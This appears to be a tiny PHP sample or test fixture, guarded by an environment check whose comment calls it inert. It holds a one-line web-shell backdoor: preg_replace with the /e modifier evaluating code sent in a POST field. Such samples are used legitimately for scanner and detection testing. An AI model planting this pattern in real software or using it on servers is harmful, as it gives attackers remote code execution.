<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
preg_replace('/x/e', $_POST['a'], 'x');
